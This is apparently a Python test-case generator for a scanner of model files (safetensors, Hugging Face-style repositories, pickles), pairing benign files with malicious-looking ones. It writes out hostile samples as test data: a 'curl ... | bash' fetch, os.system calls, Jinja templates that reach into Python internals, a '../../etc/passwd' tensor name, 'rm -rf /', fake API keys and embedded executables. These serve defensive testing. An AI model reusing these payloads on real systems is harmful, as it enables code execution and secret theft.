"""S, R, N: safetensors and repositories, and what must not raise an alarm."""

import argparse
import base64
import collections
import datetime
import decimal
import enum
import fractions
import json
import math
import pathlib
import pickle
import pickletools
import random
import struct
import types
import uuid
import zipfile

from asm import *
from calls import case


def entry(begin=0, end=16, dtype="F32", shape=(4,)):
    return {"dtype": dtype, "shape": list(shape), "data_offsets": [begin, end]}


def weights(metadata=None, data=DATA, **names):
    header = {"__metadata__": metadata} if metadata is not None else {}
    header.update(names or {"w": entry()})
    return safetensors(json.dumps(header, separators=(",", ":"), ensure_ascii=False), data)


def files():
    """S: a safetensors file runs nothing, and can still hide things."""
    def odd(name, technique, data, finds, want="not clean"):
        return case("S/" + name + ".safetensors", technique, want, finds, data, False)

    def meta(name, technique, value, finds="metadata", **more):
        return odd("metadata-" + name, technique, weights({"note": value}), finds, **more)

    # Put together here, so that no reader of source text takes them for real ones.
    yield meta("aws", "an access key", "AK" + "IA" + "IOSFODNN7EXAMPLE")
    yield meta("hub", "a token of the Hub", "hf" + "_" + "abcdefghijklmnopqrstuvwxyzABCDEFGH")
    yield meta("github", "a token of GitHub", "gh" + "p_" + "abcdefghijklmnopqrstuvwxyz0123456789")
    yield meta("openai", "an API key", "s" + "k-" + "proj-abcdefghijklmnopqrstuvwxyz0123456789ABCDEFGH")
    yield meta("google", "an API key", "AI" + "za" + "SyA-abcdefghijklmnopqrstuvwxyz01234")
    yield meta("slack", "a token of Slack", "xo" + "xb-" + "123456789012-123456789012-abcdefghijklmnopqrstuvwx")
    yield meta("key", "a private key", "-----BEGIN RSA " + "PRIVATE KEY-----\nMIIEow\n-----END RSA PRIVATE KEY-----")
    yield meta("url", "a password in an address", "https://user:secret@example.com/model")
    yield meta("mail", "an e-mail address", "trained by jane.doe@example.com", want="any")
    yield meta("home", "a path with a user's name", "/home/janedoe/models/base.safetensors", want="any")
    yield meta("windows", "a path with a user's name", "C:\\Users\\janedoe\\models\\base.safetensors", want="any")
    yield meta("script", "a script", "<script>fetch('https://example.com')</script>")
    yield meta("python", "code", "__import__('os').system('true')")
    yield meta("shell", "a shell's command", "curl https://example.com/x.sh | bash")
    yield meta("pickle", "a pickle in base64", base64.b64encode(PLAIN + EVIL4).decode())
    yield meta("blob", "a blob in base64", base64.b64encode(random.Random(1).randbytes(6000)).decode())
    yield meta("large", "two megabytes of text", "lorem ipsum " * 180_000)
    yield meta("ansi", "a terminal's escape", "\u001b[31mred")
    yield meta("bidi", "text that turns around", "safe\u202egpj.exe")
    yield meta("zero-width", "characters without width", "pass\u200bword\u2060")
    yield meta("nul", "a NUL", "a\u0000b")
    yield meta("template", "a template that reaches into Python", "{{ ''.__class__.__mro__[1].__subclasses__() }}")
    yield odd("name-path", "a tensor named as a path", weights(**{"../../etc/passwd": entry()}), "header", "any")
    yield odd("name-ansi", "a tensor with a terminal's escape", weights(**{"\u001b[2J": entry()}), "header")
    yield odd("name-bidi", "a tensor whose name turns around", weights(**{"w\u202egnp": entry()}), "header")
    yield odd("padding", "words in the header's padding", safetensors(json.dumps({"w": entry()}).encode() + b"  hidden here   ", DATA), "header")
    yield odd("tail", "bytes behind the data", weights() + b"more bytes than said", "header")
    yield odd("gap", "bytes between tensors", weights(data=DATA * 3, a=entry(), b=entry(32, 48)), "header")
    yield odd("overlap", "two tensors of the same bytes", weights(data=DATA * 2, a=entry(0, 24, shape=(6,)), b=entry(16, 32)), "header")
    yield odd("twice", "a name twice", safetensors(b'{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}', DATA), "header")
    yield odd("polyglot-zip", "a zip behind the data", weights() + torch_zip(EVIL2), "header")
    yield odd("elf", "a program in a tensor", weights(data=b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + bytes(104), w=entry(0, 128, "U8", (128,))), "embedded")
    yield odd("exe", "a program in a tensor", weights(data=b"MZ" + bytes(58) + b"\x40\x00\x00\x00PE\x00\x00\x64\x86" + bytes(58), w=entry(0, 128, "U8", (128,))), "embedded")
    inside = torch_zip(EVIL2)
    yield odd("zip", "a zip with a payload in a tensor", weights(data=inside, w=entry(0, len(inside), "U8", (len(inside),))), "embedded")
    yield odd("pickle", "a pickle with a payload in a tensor", weights(data=EVIL4, w=entry(0, len(EVIL4), "U8", (len(EVIL4),))), "embedded")


def repositories():
    """R: a folder as a whole."""
    good, index = weights(), json.dumps({"metadata": {"total_size": 16}, "weight_map": {"w": "model-00001-of-00001.safetensors"}}).encode()
    remote = json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}).encode()

    def odd(name, technique, data, finds="repository", want="not clean"):
        return case("R/" + name, technique, want, finds, data, False)

    yield odd("auto-map", "code beside the weights, which trust_remote_code runs", {"config.json": remote, "modeling_x.py": b"import os\nos.system('true')\n", "model.safetensors": good})
    yield odd("auto-map-elsewhere", "code of another repository", {"config.json": json.dumps({"auto_map": {"AutoModel": "other/repo--modeling_x.XModel"}}).encode(), "model.safetensors": good})
    yield odd("tokenizer-code", "a tokenizer's code", {"tokenizer_config.json": json.dumps({"auto_map": {"AutoTokenizer": ["tok.Tok", None]}}).encode(), "tok.py": b"x = 1\n", "model.safetensors": good})
    yield odd("pipeline", "a pipeline's code", {"config.json": json.dumps({"custom_pipelines": {"x": {"impl": "pipe.Pipe", "pt": ["AutoModel"]}}}).encode(), "pipe.py": b"x = 1\n", "model.safetensors": good})
    yield odd("pickle-beside", "a dangerous pickle beside safetensors", {"config.json": b"{}", "model.safetensors": good, "pytorch_model.bin": torch_zip(EVIL2)}, "name", "dangerous")
    yield odd("pickle-hidden", "a dangerous pickle in a hidden folder", {"model.safetensors": good, ".cache/x/y": EVIL4}, "name", "dangerous")
    yield odd("broken-beside", "a broken file hides no dangerous one", {"a.7z": seven("x", b"x")[:-5], "b.pt": torch_zip()[:-30], "c.pkl": EVIL4}, "name", "dangerous")
    yield odd("missing-shard", "an index that names a missing file", {"model.safetensors.index.json": index})
    yield odd("foreign-shard", "an index that names a file elsewhere", {"model.safetensors.index.json": index.replace(b"model-00001", b"../../model-00001"), "model-00001-of-00001.safetensors": good})
    yield odd("chat-template", "a chat template that reaches into Python", {"tokenizer_config.json": json.dumps({"chat_template": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"}).encode(), "model.safetensors": good})
    yield odd("library", "a native library beside the weights", {"model.safetensors": good, "ops.so": b"\x7fELF\x02\x01\x01" + bytes(57)}, "native")

    def fine(name, technique, data, want="clean"):
        return case("R/" + name, technique, want, "", data, False)

    card = b"---\nlicense: apache-2.0\n---\n# A model\n\nNever use `os.system` or pickle.loads.\n"
    yield fine("plain", "a repository as most are", {
        "config.json": b'{"architectures": ["LlamaForCausalLM"], "model_type": "llama", "torch_dtype": "bfloat16"}\n', "generation_config.json": b'{"eos_token_id": 2}\n',
        "model-00001-of-00001.safetensors": good, "model.safetensors.index.json": index, "README.md": card, "LICENSE": b"Apache License\n", ".gitattributes": b"*.safetensors filter=lfs\n",
        "tokenizer.json": b'{"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0, "b": 1}, "merges": ["a b"]}}\n',
        "tokenizer_config.json": b'{"chat_template": "{% for m in messages %}{{ m[\'role\'] }}: {{ m[\'content\'] }}\\n{% endfor %}", "tokenizer_class": "LlamaTokenizer"}\n',
        "vocab.txt": b"[PAD]\n[UNK]\nthe\n", "merges.txt": b"#version: 0.2\nt h\n"})
    yield fine("torch", "the same with a torch file", {"config.json": b'{"model_type": "bert"}\n', "pytorch_model.bin": torch_zip(top="pytorch_model"), "vocab.txt": b"[PAD]\n"})


class Mode(enum.Enum):
    TRAIN = 1


Point = collections.namedtuple("Point", "x y")


def pickles():
    """N: plain data in all protocols."""
    recursive = []
    recursive.append(recursive)
    values = {
        "dict": {"a": 1, "b": [1, 2, {"c": (3,)}], "os.system": "rm -rf /"}, "scalars": [None, True, False, 0, -1, 255, 65536, 1 << 31, -(1 << 63), 1 << 100, 1.5, -0.0, math.inf, math.nan],
        "text": ["", "a", "\u00e9\u4e2d\U0001f600", "x" * 300, "line\nline", "\\u0041", "eval(exec(compile))"], "bytes": [b"", b"abc", bytes(range(256)), b"x" * 300], "bytearray": bytearray(b"abc"),
        "sets": [set(), {1}, frozenset({2})], "tuples": [(), (1,), (1, 2), (1, 2, 3), (1, 2, 3, 4)], "complex": 1 + 2j, "ordered": collections.OrderedDict(a=1, b=2),
        "default": collections.defaultdict(list, a=[1]), "counter": collections.Counter("abca"), "deque": collections.deque([1, 2], 5), "range": [range(3), slice(1, 2)],
        "recursive": recursive, "shared": [[1]] * 3, "big": list(range(2000)), "base64": base64.b64encode(random.Random(2).randbytes(300)).decode(),
        "hex": random.Random(3).randbytes(200).hex(), "image": b"\x89PNG\r\n\x1a\n" + random.Random(4).randbytes(500), "almost": [b"\x80\x04 is how a pickle begins", b"PK\x03\x04 is how a zip does"],
    }
    for name, value in values.items():
        for protocol in range(6):
            data = pickle.dumps(value, protocol)
            yield case("N/plain-%s-p%d.pkl" % (name, protocol), "plain data", "clean", "", data, False)
        yield case("N/plain-%s-optimized.pkl" % name, "plain data, optimized", "clean", "", pickletools.optimize(pickle.dumps(value, 4)), False)
    odd = {
        "datetime": datetime.datetime(2026, 1, 2), "timedelta": datetime.timedelta(1), "decimal": decimal.Decimal("1.5"), "fraction": fractions.Fraction(1, 3),
        "uuid": uuid.UUID(int=1), "path": pathlib.PurePosixPath("/a/b"), "namespace": argparse.Namespace(lr=0.1), "simple": types.SimpleNamespace(a=1),
        "enum": Mode.TRAIN, "namedtuple": Point(1, 2), "exception": ValueError("x"), "function": len, "class": int,
    }
    for name, value in odd.items():
        for protocol in (0, 2, 4):
            data = pickle.dumps(value, protocol)
            want = {"class": "clean", "path": "not dangerous"}.get(name, "suspicious")
            yield case("N/known-%s-p%d.pkl" % (name, protocol), "data of the standard library", want, "", data, False)
    enumeration = p4(sg("builtins", "getattr") + sg("torch.distributed.fsdp", "StateDictType") + u("FULL_STATE_DICT") + b"\x86R")
    yield case("N/known-enum-by-name.pkl", "an enum as early Pythons 3.11 pickle it", "suspicious", "", enumeration, False)


def others():
    """N: containers with nothing in them, and files that are no models."""
    def fine(name, technique, data, want="clean"):
        return case("N/" + name, technique, want, "", data, False)

    rng = random.Random(5)
    yield fine("zip.pt", "torch zip", torch_zip())
    yield fine("zip-4.pt", "torch zip, another folder", torch_zip(top="my model"))
    yield fine("legacy.pt", "torch legacy", legacy())
    yield fine("tar.pt", "tar of torch 0.1", torch_tar())
    yield fine("array.npy", "npy", npy(None, "'<f4'", "(4,)", DATA))
    yield fine("arrays.npz", "npz", zipped(("a.npy", npy(None, "'<f4'", "(4,)", DATA)), ("b.npy", npy(None, "'|u1'", "(3,)", b"abc")), method=zipfile.ZIP_DEFLATED))
    yield fine("objects.npy", "npy of plain objects", npy(object_array(b"K\x05")), "not dangerous")
    yield fine("array.joblib", "joblib", joblib(b"K\x01a", b"K\x02a"))
    for name, wrap in WRAPPERS.items():
        yield fine("wrapped.pkl." + name, "compressed: " + name, wrap(PLAIN))
        yield fine("wrapped.pt." + name, "torch, compressed: " + name, wrap(legacy()))
    yield fine("weights.safetensors", "safetensors", weights({"format": "pt"}))
    yield fine("training.safetensors", "metadata of a trainer", weights({
        "format": "pt", "ss_base_model_version": "sd_v1", "ss_learning_rate": "0.0001", "ss_tag_frequency": '{"10_cat": {"cat": 20}}', "modelspec.sai_model_spec": "1.0.0",
        "modelspec.hash_sha256": "0x" + "ab" * 32, "sshs_model_hash": "cd" * 32, "modelspec.date": "2026-01-02T03:04:05", "modelspec.architecture": "stable-diffusion-v1/lora"}))
    noise = rng.randbytes(4096)
    yield fine("noise.safetensors", "random bytes as weights", weights(data=noise, w=entry(0, 4096, "U8", (4096,))))
    lookalike = b"PK\x03\x04" + noise[:60] + b"\x80\x04\x95" + noise[60:100] + b"cos\nsystem\n" + noise[:13]
    yield fine("lookalike.pt", "weights whose bytes look like names", zipped(
        ("a/data.pkl", state_dict(("w", tensor(numel=len(lookalike), cls=("torch", "ByteStorage"))))), ("a/data/0", lookalike), ("a/version", b"3\n")), "not dangerous")
    yield fine("keys.pt", "a dict whose keys are names", torch_zip(p2(b"}(" + x("os.system") + tensor() + x("builtins.eval") + b"K\x01u")))
    texts = {
        "README.md": b"# cos\nsystem\n\nNever call os.system.\n", "config.json": b'{"model_type": "llama", "os": "system"}\n', "notes.txt": b"A call:\n\ncos\nsystem\n(S'true'\ntR.\n", "code.txt": b"cos\nsystem\nare words.\n",
        "vocab.txt": b"[PAD]\n[UNK]\nos\nsystem\n", "data.csv": b"a,b\n1,2\n", "N.txt": b"N. B.: text\n", "I.txt": b"I am text.\nAnd more.\n", "brackets.txt": b"]]]...\n", "model.py": b"import os\n\ndef f():\n    os.system('true')\n",
        "model.yaml": b"a: 1\nb: [1, 2]\n", "empty.txt": b"", "utf16.txt": "text".encode("utf-16"), "image.png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + noise[:64],
        "noise.bin": noise, "zeros.bin": bytes(4096), "floats.bin": struct.pack("<256f", *[rng.gauss(0, 1) for _ in range(256)]),
    }
    for name, data in texts.items():
        yield fine("file-" + name, "no model", data, "not dangerous")


def cases():
    for part in (files, repositories, pickles, others):
        yield from part()
